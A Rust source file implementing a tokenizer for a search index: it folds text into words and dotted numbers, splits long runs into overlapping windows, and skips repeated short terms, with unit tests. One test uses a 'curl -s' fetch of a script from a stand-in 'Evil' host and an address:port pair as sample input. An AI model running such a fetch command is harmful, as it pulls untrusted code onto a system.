//! Text to terms: what the index can be asked for.
//!
//! Two kinds of terms come out of a text, both folded (see [`crate::fold`]):
//!
//! - **words**: maximal runs of letters and digits, except numbers of up to [`MAX_DROPPED_DIGITS`]
//!   digits, which stand nearly everywhere and select nothing;
//! - **dotted numbers**: maximal runs of digits and dots with at least two dots, from digit to digit:
//!   IP addresses, versions, dates.
//!
//! A run longer than [`WINDOW_BYTES`] gives overlapping windows instead of one term, so that any
//! fragment of up to [`MAX_FRAGMENT_BYTES`] bytes of it stands whole in one of them. Nothing else is
//! left out: [`crate::literal`] turns any literal into conditions on these terms that hold wherever
//! the literal stands, and drops the conditions that these rules cannot promise.

use tantivy::tokenizer::{Token, TokenStream, Tokenizer};

use crate::fold::fold_char;

/// Numbers of this many digits or fewer are no terms of their own.
pub const MAX_DROPPED_DIGITS: usize = 3;
/// The longest run that is one term, and the length of a window over a longer one.
pub const WINDOW_BYTES: usize = 64;
/// How far apart windows begin.
const STRIDE_BYTES: usize = 32;
/// The longest fragment that stands whole in a window, wherever it begins.
pub const MAX_FRAGMENT_BYTES: usize = WINDOW_BYTES - STRIDE_BYTES + 1;

/// Whether a folded character belongs to a word.
#[must_use]
pub fn is_word(folded: char) -> bool {
    folded.is_ascii_alphanumeric() || (!folded.is_ascii() && folded.is_alphanumeric())
}

/// Whether a word is too common a number to be a term.
#[must_use]
pub fn is_dropped(word: &str) -> bool {
    word.len() <= MAX_DROPPED_DIGITS && word.bytes().all(|b| b.is_ascii_digit())
}

/// Trims a run of digits and dots to its digits; `None` if fewer than two dots remain between them.
#[must_use]
pub fn dotted_number(run: &str) -> Option<&str> {
    let trimmed = run.trim_matches('.');
    (trimmed.bytes().filter(|&b| b == b'.').count() >= 2).then_some(trimmed)
}

/// The terms of one text, one after the other, into a buffer of the caller.
pub struct Terms<'a> {
    text: &'a str,
    pos: usize,
    pass: Pass,
    /// The rest of a folded long run, and where its next window begins.
    long: Option<(String, usize)>,
}

#[derive(PartialEq)]
enum Pass {
    Words,
    DottedNumbers,
}

impl<'a> Terms<'a> {
    /// Starts at the beginning of a text.
    #[must_use]
    pub fn new(text: &'a str) -> Self {
        Self { text, pos: 0, pass: Pass::Words, long: None }
    }

    /// Puts the next term into `term`; false when there is none.
    pub fn next_into(&mut self, term: &mut String) -> bool {
        if self.long.is_some() {
            return self.next_window(term);
        }
        if self.pass == Pass::Words {
            if self.next_word(term) {
                if term.len() > WINDOW_BYTES {
                    self.long = Some((std::mem::take(term), 0));
                    return self.next_window(term);
                }
                return true;
            }
            self.pass = Pass::DottedNumbers;
            self.pos = 0;
        }
        let Some(number) = self.next_dotted_number() else { return false };
        if number.len() > WINDOW_BYTES {
            self.long = Some((number.to_owned(), 0));
            return self.next_window(term);
        }
        term.clear();
        term.push_str(number);
        true
    }

    fn next_window(&mut self, term: &mut String) -> bool {
        let Some((run, start)) = &mut self.long else { return false };
        let begin = run.floor_char_boundary(*start);
        let end = run.ceil_char_boundary(*start + WINDOW_BYTES).min(run.len());
        term.clear();
        term.push_str(&run[begin..end]);
        *start += STRIDE_BYTES;
        if end == run.len() {
            self.long = None;
        }
        true
    }

    /// Reads the next word that is a term, folded, into `term`.
    fn next_word(&mut self, term: &mut String) -> bool {
        let bytes = self.text.as_bytes();
        loop {
            self.pos += run(&bytes[self.pos..], |class| class == OTHER).0;
            let (len, classes) = run(&bytes[self.pos..], |class| class & WORD != 0);
            let end = self.pos + len;
            if classes & WIDE == 0 {
                let word = &self.text[self.pos..end];
                self.pos = end;
                if word.is_empty() {
                    return false;
                }
                if !is_dropped(word) {
                    term.clear();
                    term.push_str(word);
                    if classes & UPPER != 0 {
                        term.make_ascii_lowercase();
                    }
                    return true;
                }
            } else if self.next_wide_word(term) {
                return true;
            }
        }
    }

    /// Goes on where a character that is not ASCII stands at or after the position, with only letters and digits
    /// before it; false if this gives no term.
    fn next_wide_word(&mut self, term: &mut String) -> bool {
        term.clear();
        while self.pos < self.text.len() {
            let (c, len) = self.char_at_pos();
            if !is_word(c) {
                break;
            }
            term.push(c);
            self.pos += len;
        }
        if term.is_empty() {
            // What stopped the word before it began belongs to none.
            self.pos += self.char_at_pos().1;
            return false;
        }
        !is_dropped(term)
    }

    /// The folded character at the position, and the length of the unfolded one.
    fn char_at_pos(&self) -> (char, usize) {
        self.text[self.pos..].chars().next().map_or(('\0', 1), |c| (fold_char(c), c.len_utf8()))
    }

    fn next_dotted_number(&mut self) -> Option<&'a str> {
        let bytes = self.text.as_bytes();
        let part_of_number = |b: &u8| b.is_ascii_digit() || *b == b'.';
        loop {
            // Dots are much rarer than digits, so look for a dot and walk back from it.
            let dot = self.pos + memchr::memchr(b'.', &bytes[self.pos..])?;
            let before = bytes[self.pos..dot].iter().rev().take_while(|b| part_of_number(b)).count();
            let after = bytes[dot..].iter().take_while(|b| part_of_number(b)).count();
            self.pos = dot + after;
            if let Some(number) = dotted_number(&self.text[dot - before..dot + after]) {
                return Some(number);
            }
        }
    }
}

/// What a byte is to a word: any other ASCII character, an ASCII letter or digit, an upper-case one of them, a part of
/// a character that has to be looked at.
const OTHER: u8 = 0;
const WORD: u8 = 1;
const UPPER: u8 = 2;
const WIDE: u8 = 4;

const CLASSES: [u8; 256] = {
    let mut classes = [WIDE; 256];
    let mut byte: u8 = 0;
    while byte < 128 {
        let word = if byte.is_ascii_alphanumeric() { WORD } else { OTHER };
        classes[byte as usize] = word | if byte.is_ascii_uppercase() { UPPER } else { 0 };
        byte += 1;
    }
    classes
};

/// How many bytes come first whose class is wanted; and all classes met, that of the byte after them included.
fn run(bytes: &[u8], wanted: impl Fn(u8) -> bool) -> (usize, u8) {
    let mut met = 0;
    let stop = bytes.iter().position(|&byte| {
        let class = CLASSES[usize::from(byte)];
        met |= class;
        !wanted(class)
    });
    (stop.unwrap_or(bytes.len()), met)
}

/// [`Terms`] as tantivy asks for them. A term that came up in the same text before may be left out: the index only
/// keeps which terms a document has, and outputs repeat themselves.
#[derive(Clone, Default)]
pub struct TermTokenizer {
    seen: Seen,
}

impl Tokenizer for TermTokenizer {
    type TokenStream<'a> = TermStream<'a>;

    fn token_stream<'a>(&'a mut self, text: &'a str) -> TermStream<'a> {
        self.seen.forget();
        TermStream {
            terms: Terms::new(text),
            token: Token { position: 0, ..Token::default() },
            seen: &mut self.seen,
        }
    }
}

/// Short terms of one text: some of those it has, in a table that stays in the nearest cache.
#[derive(Clone, Default)]
struct Seen {
    slots: Vec<Slot>,
    /// Slots of other texts are empty.
    text: u32,
}

#[derive(Clone, Copy, Default)]
struct Slot {
    term: u128,
    text: u32,
}

/// A power of two.
const SEEN_SLOTS: usize = 1 << 10;
/// Terms up to this length are remembered; the last byte of the key tells the length.
const MAX_SEEN_BYTES: usize = 15;

impl Seen {
    /// Begins another text.
    fn forget(&mut self) {
        self.text = self.text.wrapping_add(1);
        if self.slots.is_empty() || self.text == 0 {
            self.slots = vec![Slot::default(); SEEN_SLOTS];
            self.text = 1;
        }
    }

    /// Remembers a term; false if it was remembered already.
    fn insert(&mut self, term: &str) -> bool {
        let len = term.len();
        if len > MAX_SEEN_BYTES {
            return true;
        }
        let mut key = [0; 16];
        key[..len].copy_from_slice(term.as_bytes());
        key[MAX_SEEN_BYTES] = len as u8;
        let term = u128::from_le_bytes(key);
        // Only the place in the table rests on this hash; what is compared is the whole term.
        let mixed =
            ((term as u64) ^ ((term >> 64) as u64).rotate_left(29)).wrapping_mul(0x9e37_79b9_7f4a_7c15);
        let slot = &mut self.slots[(mixed >> 54) as usize % SEEN_SLOTS];
        let known = *slot;
        *slot = Slot { term, text: self.text };
        known.term != term || known.text != self.text
    }
}

/// The stream of one text. Offsets and positions stay zero: the index keeps neither.
pub struct TermStream<'a> {
    terms: Terms<'a>,
    token: Token,
    seen: &'a mut Seen,
}

impl TokenStream for TermStream<'_> {
    fn advance(&mut self) -> bool {
        while self.terms.next_into(&mut self.token.text) {
            if self.seen.insert(&self.token.text) {
                return true;
            }
        }
        false
    }

    fn token(&self) -> &Token {
        &self.token
    }

    fn token_mut(&mut self) -> &mut Token {
        &mut self.token
    }
}

/// All terms of a text, for tests and explanations.
#[must_use]
pub fn terms(text: &str) -> Vec<String> {
    let mut stream = Terms::new(text);
    let mut term = String::new();
    let mut all = Vec::new();
    while stream.next_into(&mut term) {
        all.push(term.clone());
    }
    all
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn words_and_dotted_numbers() {
        for (text, expected) in [
            ("curl -s HTTP://Evil/x.sh", vec!["curl", "s", "http", "evil", "x", "sh"]),
            ("10.0.0.1:4444", vec!["4444", "10.0.0.1"]),
            ("eth0 1.2 .1.2.3. 12 1234", vec!["eth0", "1234", "1.2.3"]),
            ("naïve ÄÖ 日本語", vec!["naïve", "äö", "日本語"]),
            ("...", vec![]),
            ("a10.0.0.1b", vec!["a10", "1b", "10.0.0.1"]),
        ] {
            assert_eq!(terms(text), expected, "{text}");
        }
    }

    #[test]
    fn the_stream_has_every_term_and_forgets_the_text_before() {
        let many: String = (0..5000).map(|n| format!("w{} x{} ", n % 1500, n % 7)).collect();
        let mut tokenizer = TermTokenizer::default();
        for text in
            ["a b a c", "a b", "", &many, "a a-term-of-more-than-fifteen a1234567890123456 a1234567890123456"]
        {
            let mut stream = tokenizer.token_stream(text);
            let mut streamed = Vec::new();
            while stream.advance() {
                streamed.push(stream.token().text.clone());
            }
            let (streamed, all): (BTreeSet<_>, BTreeSet<_>) =
                (streamed.into_iter().collect(), terms(text).into_iter().collect());
            assert_eq!(streamed, all);
        }
        let mut stream = tokenizer.token_stream("a b a c a");
        let mut count = 0;
        while stream.advance() {
            count += 1;
        }
        assert_eq!(count, 3);
    }

    #[test]
    fn a_long_run_becomes_windows_that_hold_every_fragment() {
        for run in ["x".repeat(40) + &"abcdefgh0".repeat(40), "日本語テキスト".repeat(30)] {
            let terms = terms(&run);
            assert!(terms.iter().all(|t| t.len() <= WINDOW_BYTES + 6));
            for start in (0..run.len()).filter(|&i| run.is_char_boundary(i)) {
                let end = run.floor_char_boundary(start + MAX_FRAGMENT_BYTES);
                let fragment = &run[start..end];
                assert!(terms.iter().any(|t| t.contains(fragment)), "{start}");
            }
            let (head, tail) =
                (&run[..run.floor_char_boundary(33)], &run[run.ceil_char_boundary(run.len() - 33)..]);
            assert!(terms.iter().any(|t| t.starts_with(head)));
            assert!(terms.iter().any(|t| t.ends_with(tail)));
        }
    }
}
